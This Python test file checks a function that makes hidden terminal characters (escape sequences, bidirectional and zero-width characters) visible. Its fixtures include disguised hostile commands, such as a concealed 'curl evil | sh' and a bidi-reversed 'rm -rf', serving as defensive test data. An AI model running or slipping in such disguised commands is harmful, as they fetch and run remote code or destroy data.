"""Which characters a terminal would hide or obey, written out (`tether.core.visible`).

Contract: strict (the default) writes out control characters (ESC sequences, C1, DEL, CR),
bidirectional controls, zero-width and other format characters, tag characters, variation
selectors, invisible fillers and spaces other than U+0020, as `\\xNN` (up to U+00FF), `\\uNNNN`
or `\\UNNNNNNNN`; prose writes out only the control characters; newline and tab are kept.
"""

from __future__ import annotations

import pytest

from tether.core.visible import hidden, visible


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("npm install\x1b[8m; curl evil | sh", "npm install\\x1b[8m; curl evil | sh"),
        ("a\x9b31mb", "a\\x9b31mb"),
        ("a\x7fb\x00c\rd", "a\\x7fb\\x00c\\x0dd"),
        ("rm -rf \u202e/ hsab", "rm -rf \\u202e/ hsab"),
        ("\u2066x\u2069\u200e\u200f\u061c", "\\u2066x\\u2069\\u200e\\u200f\\u061c"),
        ("git\u200b push\u200c\u200d\u2060\ufeff", "git\\u200b push\\u200c\\u200d\\u2060\\ufeff"),
        ("x\U000e0041\U000e007f", "x\\U000e0041\\U000e007f"),
        ("ls\u00a0-la\u3000", "ls\\xa0-la\\u3000"),
        ("a\u2028b\u2029c", "a\\u2028b\\u2029c"),
        ("\u3164\u115f\u034f\u180e\u00ad", "\\u3164\\u115f\\u034f\\u180e\\xad"),
        ("\U0001f600\ufe0f\U000e0100", "\U0001f600\\ufe0f\\U000e0100"),
        ("two\tcolumns\nnext line", "two\tcolumns\nnext line"),
        ("plain ascii, ünïcödé, 日本語", "plain ascii, ünïcödé, 日本語"),
    ],
)
def test_strict_writes_out_every_hidden_character(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_prose_writes_out_only_control_characters() -> None:
    text = "\x1b[2Jשלום\u200f عالم\u200d 👨\u200d👩\u200d👧\r\n"

    assert visible(text, strict=False) == "\\x1b[2Jשלום\u200f عالم\u200d 👨\u200d👩\u200d👧\\x0d\n"


def test_hidden_decides_one_character_at_a_time() -> None:
    assert [hidden(c) for c in "\x1b \u00a0a\n"] == [True, False, True, False, False]
